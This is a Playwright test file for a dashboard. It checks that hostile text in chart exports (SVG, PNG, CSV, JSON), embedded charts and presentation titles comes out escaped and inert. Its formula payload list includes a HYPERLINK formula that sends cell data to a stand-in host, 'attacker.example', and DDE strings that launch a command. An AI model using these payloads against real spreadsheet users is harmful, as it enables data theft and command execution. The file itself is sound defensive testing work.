import { readFile } from 'node:fs/promises';
import { csvParseRows } from 'd3-dsv';
import type { BrowserContext, Page } from '@playwright/test';
import { pngInternationalTexts, pngTexts, readPngChunks } from '../share/pngChunks';
import { expect, test } from './fixtures';
import {
  collectDialogs,
  expectNothingInjected,
  POISONED_REGIONS,
  routeHostileData,
  XSS_PAYLOADS,
} from './xssPayloads';

// XSS, continued: the same hostile text, now through what leaves the page (the SVG, PNG, CSV and
// JSON downloads), the embed page and the presentation's titles and caption.

/** Spreadsheet formulas: CSV cells that begin so must get a leading `'`. */
const FORMULA_PAYLOADS: { name: string; text: string }[] = [
  { name: 'formula =', text: '=HYPERLINK("https://attacker.example/?"&A1,"Open")' },
  { name: 'formula +', text: "+cmd|' /C calc'!A0" },
  { name: 'formula -', text: "-2+3+cmd|' /C calc'!A0" },
  { name: 'formula @', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
];

/** Each view's charts, where the poisoned text reaches them. */
const VIEW_CHARTS: { path: string; chartIds: string[]; imaged: string }[] = [
  {
    path: '/survey?region=SE-AB',
    chartIds: ['survey-national', 'survey-region'],
    imaged: 'survey-region',
  },
  {
    path: '/sectors',
    chartIds: ['sectors-order', 'sectors-summary', 'sectors-matrix'],
    imaged: 'sectors-matrix',
  },
  {
    path: '/results?region=SE22',
    chartIds: ['results-counts', 'results-matrix'],
    imaged: 'results-matrix',
  },
  {
    path: '/projects',
    chartIds: ['projects-map', 'projects-timeline', 'projects-table'],
    imaged: 'projects-table',
  },
];
/** The charts whose rows hold a poisoned field (the others show it in titles and lines only). */
const ROWS_CARRY = new Set(
  VIEW_CHARTS.flatMap((view) => view.chartIds).filter(
    (id) => !['sectors-summary', 'results-counts'].includes(id),
  ),
);

/** An embed URL's filters that bring a poisoned region into the chart. */
const EMBED_FILTERS: Record<string, string> = {
  survey: '&region=SE-AB',
  sectors: '',
  results: '&region=SE22',
  projects: '',
};

const withLang = (url: string) => `${url}${url.includes('?') ? '&' : '?'}lang=en`;

/** The poisoned text as it can be found once wrapped or cut: no white space, its start only. */
const findable = (text: string) => text.replace(/\s+/g, '').slice(0, 8);

/** How the start of the text looks in the SVG's source: escaped as XML text. */
const escapedStart = (text: string) =>
  (text.split(/\s/)[0] ?? '')
    .slice(0, 4)
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;');

async function download(page: Page, chartId: string, exportId: string): Promise<Buffer> {
  const figure = page.locator(`#${chartId}`);
  await figure.locator('summary', { hasText: 'Download' }).click();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    figure.locator(`[data-export="${exportId}"]`).click(),
  ]);
  return readFile(await file.path());
}

/**
 * A page without the dashboard's CSP or Trusted Types, as a downloaded file would be opened:
 * whatever a file could run, runs here. Files are served from `/__exported/…` on the same origin.
 */
async function fileViewer(context: BrowserContext) {
  const viewer = await context.newPage();
  const dialogs = collectDialogs(viewer);
  let served: { body: Buffer; contentType: string } = { body: Buffer.from(''), contentType: '' };
  await viewer.route('**/__exported/**', (route) =>
    route.fulfill({ status: 200, contentType: served.contentType, body: served.body }),
  );
  return {
    viewer,
    dialogs,
    async open(name: string, body: Buffer, contentType: string): Promise<void> {
      served = { body, contentType };
      await viewer.goto(`/__exported/${name}`);
    },
  };
}

interface SvgFindings {
  parseError: string | null;
  root: string;
  scripts: number;
  foreignObjects: number;
  handlers: string[];
  scriptLinks: string[];
  text: string;
  description: string;
}

test.describe('hostile text in the exports', () => {
  test.use({ serviceWorkers: 'block', expectedProblems: /service worker/i });
  test.describe.configure({ timeout: 180_000 });

  // Within a few minutes: markup payloads through one chart per view in every format; formulas
  // through every chart's data files, where they matter.
  const cases = [
    ...XSS_PAYLOADS.map((payload) => ({ ...payload, everyChart: false })),
    ...FORMULA_PAYLOADS.map((payload) => ({ ...payload, everyChart: true })),
  ];
  for (const payload of cases) {
    const scope = payload.everyChart
      ? 'the CSV and JSON of every chart'
      : 'the SVG, PNG, CSV and JSON of a chart per view';
    test(`${payload.name}: ${scope} carry it as text`, async ({ page, context }) => {
      const dialogs = collectDialogs(page);
      const files = await fileViewer(context);
      await routeHostileData(page, payload.text);

      for (const view of VIEW_CHARTS) {
        await page.goto(withLang(view.path));
        await expect(page.locator('.chart-skeleton')).toHaveCount(0);
        await expect(page.getByRole('alert')).toHaveCount(0);
        for (const chartId of payload.everyChart ? view.chartIds : [view.imaged]) {
          await expect(page.locator(`#${chartId}`)).toBeVisible();

          if (!payload.everyChart) {
            // SVG: well-formed, without anything that runs, the text as text nodes.
            const svg = await download(page, chartId, 'svg-16:9');
            const findings = await files.viewer.evaluate((source): SvgFindings => {
              const document = new DOMParser().parseFromString(source, 'image/svg+xml');
              const elements = [...document.querySelectorAll('*')];
              return {
                parseError: document.querySelector('parsererror')?.textContent ?? null,
                root: document.documentElement.localName,
                scripts: document.getElementsByTagName('script').length,
                foreignObjects: document.getElementsByTagName('foreignObject').length,
                handlers: elements.flatMap((element) =>
                  element.getAttributeNames().filter((name) => /^on/i.test(name)),
                ),
                scriptLinks: elements.flatMap((element) =>
                  [...element.attributes]
                    .filter((attribute) => /^\s*(java|vb)script:/i.test(attribute.value))
                    .map((attribute) => `${attribute.name}=${attribute.value.slice(0, 40)}`),
                ),
                text: [...document.querySelectorAll('text, title, desc')]
                  .map((node) => node.textContent ?? '')
                  .join(''),
                description: document.querySelector('svg > desc')?.textContent ?? '',
              };
            }, svg.toString('utf8'));
            expect(findings, `${chartId}.svg`).toMatchObject({
              parseError: null,
              root: 'svg',
              scripts: 0,
              foreignObjects: 0,
              handlers: [],
              scriptLinks: [],
            });
            // No markup of the payload's survives in the file's source, only escaped text.
            expect(svg.toString('utf8')).not.toMatch(/<(script|img|iframe)\b|<svg onload/i);
            const svgCarries = findings.text.replace(/\s+/g, '').includes(findable(payload.text));

            // Opened as a document of its own, with no CSP to save it: nothing runs.
            await files.open(`${chartId}.svg`, svg, 'image/svg+xml');
            await files.viewer.waitForTimeout(100);
            expect(
              await files.viewer.evaluate(() => ({
                ran: window.__xss ?? null,
                root: document.documentElement.localName,
              })),
              `${chartId}.svg opened`,
            ).toEqual({ ran: null, root: 'svg' });

            // PNG: a valid image whose text chunks hold the summary and source as they are.
            const png = new Uint8Array(await download(page, chartId, 'png-16:9'));
            expect([...png.subarray(0, 8)]).toEqual([137, 80, 78, 71, 13, 10, 26, 10]);
            const chunks = readPngChunks(png);
            expect(
              chunks.every((chunk) => chunk.crcOk),
              `${chartId}.png CRCs`,
            ).toBe(true);
            expect(chunks.at(-1)?.type).toBe('IEND');
            const latin1 = pngTexts(png);
            const exact = { ...latin1, ...pngInternationalTexts(png) };
            expect(findings.description.startsWith(exact.Description ?? '-'), chartId).toBe(true);
            expect(findings.description).toContain(exact.Source ?? '-');
            const decoded = await files.viewer.evaluate(async (base64) => {
              const bytes = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0));
              const bitmap = await createImageBitmap(new Blob([bytes], { type: 'image/png' }));
              return { width: bitmap.width, height: bitmap.height };
            }, Buffer.from(png).toString('base64'));
            expect(decoded).toEqual({ width: 1600, height: 900 });
            const pngCarries = [exact.Description, exact.Source, exact.Title].some((text) =>
              text?.includes(payload.text),
            );
            if (findings.description.includes(payload.text)) expect(pngCarries).toBe(true);

            expect(svgCarries, `${chartId}.svg shows the text`).toBe(true);
            expect(svg.toString('utf8')).toContain(escapedStart(payload.text));
          }

          // CSV: formulas neutralised, the text round-trips.
          const csv = (await download(page, chartId, 'csv')).toString('utf8');
          expect(csv.startsWith('\uFEFF')).toBe(true);
          const cells = csvParseRows(csv.slice(1)).flat();
          const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
          expect(
            formulas.filter((cell) => !/^-?\d/.test(cell)),
            `${chartId}.csv`,
          ).toEqual([]);
          const csvCarries = cells.some((cell) => cell.replace(/^'/, '').includes(payload.text));
          expect(csvCarries, `${chartId}.csv holds the text`).toBe(ROWS_CARRY.has(chartId));
          if (/^[=+\-@]/.test(payload.text) && csvCarries) {
            expect(cells.filter((cell) => cell.startsWith(`'${payload.text}`))).not.toEqual([]);
          }

          // JSON: parses, and carries the text wherever the CSV does.
          const json = (await download(page, chartId, 'json')).toString('utf8');
          const exported = JSON.parse(json) as { chartId: string };
          expect(exported.chartId).toBe(chartId);
          if (csvCarries) {
            expect(JSON.stringify(exported)).toContain(JSON.stringify(payload.text).slice(1, -1));
          }
        }
        await expectNothingInjected(page);
      }
      expect(dialogs, 'no dialog on the dashboard').toEqual([]);
      expect(files.dialogs, 'no dialog from an opened file').toEqual([]);
      await files.viewer.close();
    });
  }
});

test.describe('hostile text in an embedded chart', () => {
  test.use({ serviceWorkers: 'block', expectedProblems: /service worker/i });
  test.describe.configure({ timeout: 180_000 });

  // Each id in every payload's test; locked for every other payload, so each id is seen both ways.
  for (const [index, payload] of XSS_PAYLOADS.entries()) {
    const lock = index % 2 === 0 ? '&lock=1' : '';
    test(`${payload.name}: every chart id${lock ? ', locked,' : ''} shows it as text`, async ({
      page,
    }) => {
      const dialogs = collectDialogs(page);
      await routeHostileData(page, payload.text);
      for (const view of VIEW_CHARTS) {
        const filters = EMBED_FILTERS[view.path.split(/[/?]/)[1] ?? ''] ?? '';
        for (const chartId of view.chartIds) {
          const url = `/embed/${chartId}?lang=en${filters}${lock}`;
          await page.goto(url);
          await expect(page.locator('.chart-skeleton')).toHaveCount(0);
          await expect(page.getByRole('alert'), url).toHaveCount(0);
          await expect(page.getByRole('figure'), url).toHaveCount(1);
          // The timeline labels its bars with case numbers at this width: no poisoned text.
          if (chartId !== 'projects-timeline') {
            await expect
              .poll(
                () =>
                  page.evaluate(
                    (text) => document.body.textContent?.replace(/\s+/g, '').includes(text),
                    findable(payload.text),
                  ),
                { message: `${url} shows the payload as text` },
              )
              .toBe(true);
          }
          await expectNothingInjected(page);
        }
      }
      expect(dialogs, 'no dialog opened').toEqual([]);
    });
  }
});

/** The longest title a sequence step may have. */
const MAX_STEP_TITLE = 200;

test.describe('hostile text in the presentation', () => {
  test.use({ serviceWorkers: 'block', expectedProblems: /service worker/i });
  test.describe.configure({ timeout: 120_000 });

  for (const payload of XSS_PAYLOADS) {
    test(`${payload.name}: step titles and captions show it as text`, async ({ page }) => {
      const dialogs = collectDialogs(page);
      await routeHostileData(page, payload.text);
      const title = payload.text.trim().slice(0, MAX_STEP_TITLE);
      // One step per view, each filtered to a poisoned region; the project search finds the
      // poisoned project. Titles are the presenter's free text.
      const steps = [
        { p: '/survey', s: { region: POISONED_REGIONS[0] }, t: title },
        { p: '/sectors', s: { region: POISONED_REGIONS[2] }, t: { sv: title, en: title } },
        { p: '/results', s: { region: POISONED_REGIONS[1], level: 'organisation' }, t: title },
        { p: '/projects', s: { region: POISONED_REGIONS[1], q: title.slice(0, 100) }, t: title },
      ];
      const seq = Buffer.from(JSON.stringify(steps)).toString('base64url');
      for (const [index, step] of steps.entries()) {
        await page.goto(`/present?step=${index + 1}&seq=${seq}&lang=en`);
        await expect(page).toHaveURL(new RegExp(`[?&]step=${index + 1}(&|$)`));
        await expect(page.locator('.chart-skeleton')).toHaveCount(0);
        await expect(page.getByRole('alert')).toHaveCount(0);
        const regionName = `${payload.text} ${step.s.region}`;
        await expect
          .poll(() => page.locator('.presentation-caption__text').textContent())
          .toContain(`Region: ${regionName}`);
        await expect(page.getByRole('region', { name: 'Presentation controls' })).toContainText(
          title,
        );
        expect(await page.title()).toContain(title);
        await expectNothingInjected(page);
      }
      // Every title at once, in the steps panel. The controls fade after a while without mouse
      // movement, as a presenter's would: wake them first.
      await page.mouse.move(10, 10);
      await page.mouse.move(20, 20);
      await page.getByRole('button', { name: 'Steps and settings' }).click();
      await expect(page.getByRole('region', { name: 'Presentation controls' })).toBeVisible();
      const listed = await page.evaluate(
        (text) => document.body.textContent?.split(text).length ?? 0,
        title,
      );
      expect(listed, 'each step title listed').toBeGreaterThan(steps.length);
      await expectNothingInjected(page);
      expect(dialogs, 'no dialog opened').toEqual([]);
    });
  }
});
